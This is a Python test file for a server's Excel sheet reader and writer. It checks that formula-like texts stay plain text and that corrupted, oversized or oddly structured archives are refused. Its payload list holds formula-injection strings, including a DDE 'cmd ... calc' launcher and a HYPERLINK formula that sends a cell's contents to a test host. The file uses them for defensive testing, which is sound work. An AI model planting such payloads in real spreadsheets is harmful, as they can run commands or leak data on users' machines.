"""Sheets from offices, and from people who mean harm."""

import io
import re
import zipfile
from contextlib import suppress
from datetime import UTC, date, datetime
from random import Random

import pytest
import xlsxwriter

from server.gateways import repacking
from server.gateways.excel import SheetColumn, write_sheet
from server.gateways.repacking import UnreadableSheet
from server.gateways.workbooks import Row, read_sheet

COLUMNS = [SheetColumn(header="甲"), SheetColumn(header="乙")]
CELL_XML = '<c r="{}"><v>1</v></c>'


def a_workbook(fill):
    """A workbook as another program would write it: `fill(workbook, sheet)` puts in the content."""
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as workbook:
        fill(workbook, workbook.add_worksheet("清单"))
    return file.getvalue()


def with_part(data, name, content):
    """The same archive with one part exchanged or added."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.namelist():
            if entry != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, content)
    return file.getvalue()


def with_rows(inside):
    """A sheet whose XML rows are written by hand."""
    data = a_workbook(lambda _, sheet: sheet.write(0, 0, 1))
    name = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(name).decode()
    changed = re.sub("<sheetData>.*</sheetData>", f"<sheetData>{inside}</sheetData>", xml, flags=re.S)
    return with_part(data, name, changed)


def hostile_payloads():
    """300 texts that start like a formula, half-width and full-width."""
    draw = Random(20)
    starts = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t=", "\r\n="]
    ends = [
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://x.test?"&A1,"点")',
        "SUM(A1:A9)",
        "2026",
        "市改革办",
        "'",
    ]
    payloads = ["=1+1", "@SUM(1)", "+86 951", "-", "=", "\t", "\r", "\uff1d1+1", "'=1", "_x000D_=1", "{=1+1}"]
    while len(payloads) < 300:
        payloads.append(draw.choice(starts) + draw.choice(ends) + str(len(payloads)))
    return payloads


def test_300_hostile_texts_are_read_back_unchanged_and_none_is_a_formula():
    payloads = hostile_payloads()

    data = write_sheet(COLUMNS, ((text, text) for text in payloads), title="清单")

    rows = read_sheet(data)[2:]
    shown = [text for text in payloads if text.strip()]
    assert [row.cells for row in rows] == [(text, text) for text in shown]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = [archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")]
    assert sum(len(re.findall("<f[ >]", part)) for part in parts) == 0


def test_a_text_that_starts_like_a_formula_stays_text_when_it_is_edited():
    data = write_sheet(COLUMNS, [("=1+1", "市改革办")], title="清单")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.read("xl/styles.xml").decode().count('quotePrefix="1"') == 1


def test_values_come_back_as_what_they_are_with_the_row_number_of_excel():
    cells = [("路口", 9), (date(2026, 12, 31), True), (1.5, None), (None, None), ("末行", -3)]

    rows = read_sheet(write_sheet(COLUMNS, cells, title="清单", notes=["请勿改动表头"]))

    assert [row.number for row in rows] == [1, 2, 3, 4, 5, 6, 8]
    assert [row.cells for row in rows[3:]] == [
        ("路口", 9),
        (date(2026, 12, 31), True),
        (1.5, None),
        ("末行", -3),
    ]


def test_an_instant_is_written_in_the_office_s_time():
    instant = datetime(2026, 12, 31, 16, 30, tzinfo=UTC)

    rows = read_sheet(write_sheet(COLUMNS, [(instant, "跨年")], title="清单"))

    assert rows[-1].cells[0] == datetime(2027, 1, 1, 0, 30)  # noqa: DTZ001 - sheets know no zones


def test_a_text_too_long_for_a_cell_is_refused_and_not_dropped():
    with pytest.raises(ValueError, match="32767"):
        write_sheet(COLUMNS, [("长" * 32_768, "")], title="清单")


def test_a_value_merged_over_rows_stands_in_each_of_them():
    def fill(_, sheet):
        sheet.merge_range(0, 0, 1, 2, "2026年任务清单")
        sheet.merge_range(2, 0, 5, 0, "市改革办")
        sheet.write_column(2, 1, ["甲", "乙", "丙"])

    rows = read_sheet(a_workbook(fill))

    assert [row.cells[:2] for row in rows] == [
        ("2026年任务清单", None),
        ("市改革办", "甲"),
        ("市改革办", "乙"),
        ("市改革办", "丙"),
    ]


def test_hidden_sheets_are_passed_over():
    def fill(workbook, sheet):
        sheet.write(0, 0, "旧稿")
        workbook.add_worksheet("正式").write(0, 0, "正式稿")
        sheet.hide()
        workbook.get_worksheet_by_name("正式").activate()

    assert read_sheet(a_workbook(fill)) == [Row(1, ("正式稿",))]


def test_choices_do_not_change_what_is_read():
    columns = [
        SheetColumn(header="单位", choices=["市改革办", "市财政局"], other_allowed=True, hint="填全称")
    ]

    data = write_sheet(columns, [("市财政局",)], title="清单")

    assert read_sheet(data)[-1].cells == ("市财政局",)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "可选项!$A$1:$A$2" in archive.read("xl/worksheets/sheet1.xml").decode()


def test_rows_and_columns_are_read_up_to_the_limits():
    assert len(read_sheet(a_workbook(lambda _, sheet: sheet.write_column(0, 0, [1] * 5_000)))) == 5_000
    assert len(read_sheet(a_workbook(lambda _, sheet: sheet.write_row(0, 0, [1] * 60)))[0].cells) == 60


@pytest.mark.parametrize(
    ("made", "says"),
    [
        (lambda: b"", "不是 Excel"),
        (lambda: b"a,b\r\n1,2", "不是 Excel"),
        (lambda: b"PK\x03\x04 cut off", "损坏"),
        (lambda: repacking.OLD_OFFICE_START + b"\0" * 512, "旧格式"),
        (lambda: repacking.OLD_OFFICE_START + repacking.ENCRYPTED_STREAM, "打开密码"),
        (lambda: b"PK\x03\x04" + b"\0" * repacking.MOST_BYTES, "10 MB"),
        (lambda: a_workbook(lambda _, sheet: sheet.write_column(0, 0, [1] * 5_001)), "5001 行"),
        (lambda: a_workbook(lambda _, sheet: sheet.write_row(0, 0, [1] * 61)), "61 列"),
        (
            lambda: a_workbook(lambda _, sheet: sheet.write(1_048_575, 16_383, 1) or sheet.write(0, 0, 1)),
            "太大",
        ),
        (lambda: with_rows('<row r="1048576"><c><v>1</v></c></row>' + CELL_XML.format("XFD1")), "太大"),
        (lambda: with_rows(CELL_XML.format("ZZZZZZZ1")), "内部结构"),
        (lambda: with_rows(CELL_XML.format("A99999999999")), "内部结构"),
        (lambda: with_rows("<row>"), "损坏"),
        (
            lambda: with_part(
                a_workbook(lambda *_: None), "xl/styles.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x/>'
            ),
            "内部结构",
        ),
        (
            lambda: with_part(
                a_workbook(lambda *_: None), "xl/worksheets/sheet1.xml", "<x/>".encode("utf-16")
            ),
            "内部结构",
        ),
        (lambda: with_part(a_workbook(lambda *_: None), "xl/more.xml", b" " * (100 << 20)), "100 MB"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_with_a_sentence(made, says):
    data = made()
    with pytest.raises(UnreadableSheet) as refused:
        read_sheet(data)

    assert says in refused.value.message
    assert refused.value.hint


def test_a_part_that_is_larger_than_its_archive_says_is_refused():
    """The size in the directory lies; the checksum of what the size covers gives it away."""
    honest = with_part(a_workbook(lambda *_: None), "xl/more.xml", b"<x>" + b" " * 5_000_000 + b"</x>")
    size = (5_000_007).to_bytes(4, "little")
    assert honest.count(size) == 2

    with pytest.raises(UnreadableSheet, match="损坏"):
        read_sheet(honest.replace(size, (7).to_bytes(4, "little")))


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_part_that_is_there_twice_is_refused():
    """Two readers could take different ones."""
    file = io.BytesIO(a_workbook(lambda *_: None))
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("xl/workbook.xml", archive.read("xl/workbook.xml"))

    with pytest.raises(UnreadableSheet, match="内部结构"):
        read_sheet(file.getvalue())


def test_cut_and_twisted_files_are_refused_and_never_crash():
    good = write_sheet(COLUMNS, [("路口", 9)] * 20, title="清单")
    draw = Random(20)
    for _ in range(300):
        twisted = bytearray(good)
        for _ in range(draw.randrange(1, 6)):
            twisted[draw.randrange(len(twisted))] = draw.randrange(256)
        with suppress(UnreadableSheet):
            read_sheet(bytes(twisted[: draw.choice([len(good), draw.randrange(len(good))])]))
